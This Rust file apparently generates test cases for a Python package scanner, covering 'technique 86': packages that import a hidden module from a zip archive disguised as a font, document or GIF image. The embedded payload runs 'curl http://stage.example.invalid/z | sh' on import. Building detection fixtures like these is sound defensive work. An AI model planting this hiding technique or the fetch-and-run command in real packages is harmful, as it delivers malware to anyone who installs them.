//! Technique 86: modules that lie in a data file, which Python takes for an archive.

use crate::case::{Cases, Trigger::Import};
use crate::package::{init, wheel};
use crate::zip;

/// Downloads what it runs when it is imported.
const PAYLOAD: &str = "import os\nos.system('curl http://stage.example.invalid/z | sh')\n";

/// An archive that holds the payload.
fn archive() -> Vec<u8> {
    zip::pack(&[zip::Entry::file("payload.py", PAYLOAD)])
}

pub(crate) fn add(cases: &mut Cases) {
    let picture = [&b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0"[..], &archive()].concat();
    cases
        .technique(86, "imports-from-data-file", Import)
        .case("archive", init("import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'assets.zip'))\nimport payload\n").bytes("«pkg»/assets.zip", archive()))
        .case("archive-under-another-name", init("import sys\nfrom pathlib import Path\nsys.path.append(str(Path(__file__).parent / 'fonts.dat'))\nimport payload\n").bytes("«pkg»/fonts.dat", archive()))
        .case("document", init("import os, sys\nhere = os.path.dirname(__file__)\nsys.path[:0] = [os.path.join(here, 'manual.docx')]\nsys.path.insert(0, os.path.join(here, 'manual.docx'))\n__import__('payload')\n").bytes("«pkg»/manual.docx", archive()))
        .case("behind-a-picture", wheel().file("«pkg»/__init__.py", "from . import _load\n").file("«pkg»/_load.py", "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'logo.bin'))\nimport payload\n").bytes("«pkg»/logo.bin", picture));
}
